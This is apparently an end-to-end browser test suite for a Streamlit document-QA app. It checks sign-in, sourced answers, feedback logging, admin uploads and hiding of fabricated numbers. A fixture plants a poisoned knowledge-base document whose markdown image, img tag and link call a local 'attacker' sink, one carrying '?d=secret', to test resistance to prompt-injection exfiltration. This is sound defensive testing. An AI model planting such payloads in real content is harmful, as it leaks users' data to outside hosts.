"""The web app end to end in headless Debian Chromium driven by Playwright, against a real
``streamlit run app.py`` server over a real knowledge base: sign in, ask, see the streamed
answer and its source card, give feedback and find it in the audit log; an admin uploads a file
that becomes answerable; a non-admin has no admin area; a prompt-injected image never loads.

Screenshots go to ``test-artifacts/browser/`` in the repo (kept by CI as artifacts).
"""

from __future__ import annotations

import contextlib
import http.server
import os
import shutil
import subprocess
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path

import pytest
from llm_server import free_port, stop_process

from kbqa import KnowledgeBase
from tests.conftest import REPO, SAMPLE_DOCS, streamlit_command
from tests.requirements import CHROMIUM, needs_chromium, needs_module

pytestmark = pytest.mark.browser

LAUNCH_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
               "--disable-component-update"]
ARTIFACTS = REPO / "test-artifacts" / "browser"
PASSWORD = {"ann": "ann-password-1", "root": "root-password-1"}
QUESTION_BOX = "Ask a question about the company documents"


class _Sink(http.server.BaseHTTPRequestHandler):
    """An 'attacker' host: records every request a page makes to it."""

    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        _Sink.requests.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def attacker():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Sink)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


@pytest.fixture(scope="module")
def web_kb(tmp_path_factory, attacker):
    root = tmp_path_factory.mktemp("web")
    docs = root / "docs"
    shutil.copytree(SAMPLE_DOCS, docs)
    # Plain text keeps the markup verbatim (the Markdown loader reduces it to its text), and
    # localhost, not an IP address: addresses are masked at ingest, host names are not.
    (docs / "poisoned_notice.txt").write_text(
        "Visitor badge notice\n\nVisitor badges are collected at the north lobby desk "
        f"![badge](http://localhost:{attacker}/leak.png?d=secret) "
        f"<img src=\"http://localhost:{attacker}/img.png\"> "
        f"[click](http://localhost:{attacker}/link) every morning.\n",
        encoding="utf-8",
    )
    kb = KnowledgeBase(root / "kb")
    kb.ingest(docs)
    kb.users.add("ann", password=PASSWORD["ann"])
    kb.users.add("root", admin=True, password=PASSWORD["root"])
    return kb


@pytest.fixture(scope="module")
def server(web_kb):
    needs_chromium()
    with _chat_server(web_kb.data_dir.parent, KBQA_DATA_DIR=str(web_kb.data_dir)) as url:
        yield url


@contextlib.contextmanager
def _chat_server(log_dir: Path, **env: str) -> Iterator[str]:
    """``streamlit run app.py`` on a free port with ``env`` added; yields its URL once healthy."""
    port = free_port()
    log = (log_dir / "streamlit.log").open("w")
    process = subprocess.Popen(streamlit_command(port), cwd=REPO, env={**os.environ, **env},
                               stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    deadline = time.time() + 120
    while time.time() < deadline:
        try:
            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as response:
                if response.status == 200:
                    break
        except OSError:
            time.sleep(0.5)
    else:
        process.kill()
        pytest.fail(f"streamlit did not start: {Path(log.name).read_text()[-2000:]}")
    try:
        yield url
    finally:
        stop_process(process, timeout=30)
        log.close()


@pytest.fixture(scope="module")
def browser(server):
    sync_playwright = needs_module("playwright.sync_api").sync_playwright
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        yield chromium
        chromium.close()


def _signed_in(browser, server, name: str):  # type: ignore[no-untyped-def]
    page = browser.new_page(viewport={"width": 1280, "height": 900})
    page.set_default_timeout(180_000)
    page.goto(server)
    assert page.get_by_placeholder(QUESTION_BOX).count() == 0  # nothing before sign-in
    page.get_by_label("User name").fill(name)
    page.get_by_role("textbox", name="Password").fill(PASSWORD[name])
    page.get_by_role("button", name="Sign in").click()
    page.get_by_placeholder(QUESTION_BOX).wait_for()
    return page


def _ask(page, question: str) -> None:  # type: ignore[no-untyped-def]
    box = page.get_by_placeholder(QUESTION_BOX)
    box.fill(question)
    box.press("Enter")


def test_wrong_password_shows_an_error_and_nothing_else(browser, server):
    page = browser.new_page()
    page.goto(server)
    page.get_by_label("User name").fill("ann")
    page.get_by_role("textbox", name="Password").fill("not-her-password")
    page.get_by_role("button", name="Sign in").click()
    page.get_by_text("Wrong user name or password.").wait_for(timeout=60_000)
    assert page.get_by_placeholder(QUESTION_BOX).count() == 0
    page.close()


def test_employee_asks_sees_sources_and_gives_feedback(browser, server, web_kb):
    page = _signed_in(browser, server, "ann")
    assert page.get_by_text("Admin", exact=True).count() == 0  # no admin area for ann
    _ask(page, "How often must passwords be rotated?")
    page.get_by_text("[1] IT Security Policy").first.wait_for()  # the source card's title
    page.get_by_role("radio", name="Thumbs up").first.wait_for()  # the final answer is drawn
    assert "90 days" in page.locator('[data-testid="stChatMessage"]').last.inner_text()
    assert page.get_by_role("button", name="Open document").count() >= 1
    page.screenshot(path=str(ARTIFACTS / "answer.png"), full_page=True)

    page.get_by_role("radio", name="Thumbs up").first.click()
    page.get_by_label("Comment (optional)").fill("clear answer")
    page.get_by_role("button", name="Send feedback").click()
    page.get_by_text("Thanks for your feedback.").wait_for()
    page.screenshot(path=str(ARTIFACTS / "feedback.png"), full_page=True)
    feedback = [r for r in web_kb.audit.records() if r.kind == "feedback"]
    assert feedback and feedback[-1].actor == "ann"
    assert (feedback[-1].payload["rating"], feedback[-1].payload["comment"]) == ("up",
                                                                                "clear answer")
    asked = web_kb.audit.get(feedback[-1].payload["ask_id"])
    assert asked.actor == "ann" and "90 days" in asked.payload["answer"]

    _ask(page, "What is the capital of Peru?")
    page.get_by_text("The knowledge base does not cover this question.").wait_for()
    page.close()


def test_injected_images_and_links_are_never_quoted_nor_loaded(browser, server, attacker):
    page = _signed_in(browser, server, "ann")
    _ask(page, "Where are visitor badges collected?")
    page.get_by_role("radio", name="Thumbs up").first.wait_for()  # the final answer is drawn
    page.screenshot(path=str(ARTIFACTS / "injection.png"), full_page=True)
    shown = page.locator('[data-testid="stChatMessage"]').last.inner_text()
    # kbqa.injection keeps the planted image out of the answer and its snippets altogether
    assert "badge](" not in shown.replace("\u2060", "") and f":{attacker}" not in shown
    sources = page.locator("img").evaluate_all("els => els.map(e => e.src)")
    links = page.locator("a").evaluate_all("els => els.map(e => e.href)")
    assert not [u for u in sources + links if f":{attacker}" in u]
    time.sleep(2)
    assert _Sink.requests == []
    page.close()


def test_admin_uploads_a_document_that_becomes_answerable(browser, server, tmp_path):
    from playwright.sync_api import TimeoutError as PlaywrightTimeout

    page = _signed_in(browser, server, "root")
    page.get_by_text("Admin", exact=True).click()
    page.get_by_role("tab", name="Upload").wait_for()
    note = tmp_path / "bike_policy.md"
    note.write_text("# Bike policy\n\nBicycles are parked in the basement cage, level -2, "
                    "which opens at 06:45.\n", encoding="utf-8")
    page.get_by_text("Documents to add").wait_for()
    done = page.locator('[data-testid="stAlertContentSuccess"]').first
    # A rerun of the page (after the upload, or a click landing during one) can drop the
    # attached file or the click: attach and click again, up to four times.
    for attempt in range(4):
        page.locator('input[type="file"]').set_input_files(str(note))
        try:
            page.get_by_text("bike_policy.md").first.wait_for(timeout=20_000)
            page.wait_for_timeout(1_000)
            page.get_by_role("button", name="Ingest").click()
            done.wait_for(timeout=60_000)
            break
        except PlaywrightTimeout:
            page.screenshot(path=str(ARTIFACTS / f"admin_upload_retry{attempt}.png"),
                            full_page=True)
    done.wait_for()
    page.screenshot(path=str(ARTIFACTS / "admin_upload.png"), full_page=True)
    page.close()

    employee = _signed_in(browser, server, "ann")  # an open session of another user
    _ask(employee, "When does the basement bicycle cage open?")
    employee.get_by_text("06:45").first.wait_for()
    employee.close()


# -- nothing unverified on screen ------------------------------------------------------------
FABRICATED = "7,777"
SCRIPTED_DRAFT = ("Passwords must be rotated every 90 days [1]. Each rotation earns "
                  f"{FABRICATED} bonus points [1].")
# Runs in the page: remembers whether any text ever drawn held the fabricated number, and
# whether the status was shown, however briefly.
WATCH = """([fabricated, status]) => {
  window.__kbqa = {leaked: false, checking: false};
  const look = () => {
    const text = document.body.innerText;
    if (text.includes(fabricated)) window.__kbqa.leaked = true;
    if (text.includes(status)) window.__kbqa.checking = true;
  };
  new MutationObserver(look).observe(document.body,
                                     {subtree: true, childList: true, characterData: true});
}"""


@pytest.fixture(scope="module")
def scripted_server(web_kb, tmp_path_factory):
    """A second chat server whose model (a real OpenAI-compatible server) writes
    ``SCRIPTED_DRAFT`` slowly, a word every 0.3 s."""
    from scripted_llm import scripted_llm

    needs_chromium()
    base = tmp_path_factory.mktemp("scripted_web")
    with scripted_llm(SCRIPTED_DRAFT, base, delay_s=0.3) as llm_url, _chat_server(
            base, KBQA_DATA_DIR=str(web_kb.data_dir), KBQA_LLM_BACKEND="openai",
            KBQA_LLM_BASE_URL=llm_url) as url:
        yield url


def test_a_fabricated_number_in_the_models_draft_is_never_on_screen(browser, scripted_server):
    from kbqa.webapp.chat import CHECKING

    page = _signed_in(browser, scripted_server, "ann")
    page.evaluate(WATCH, [FABRICATED, CHECKING])
    _ask(page, "How often must passwords be rotated?")
    page.get_by_role("radio", name="Thumbs up").first.wait_for()  # the final answer is drawn
    page.screenshot(path=str(ARTIFACTS / "verified_stream.png"), full_page=True)
    shown = page.locator('[data-testid="stChatMessage"]').last.inner_text()
    assert "Passwords must be rotated every 90 days [1]." in shown.replace("\\", "")
    seen = page.evaluate("window.__kbqa")
    assert seen["checking"], "the page never said it was checking the answer"
    assert not seen["leaked"] and FABRICATED not in page.content()
    page.close()
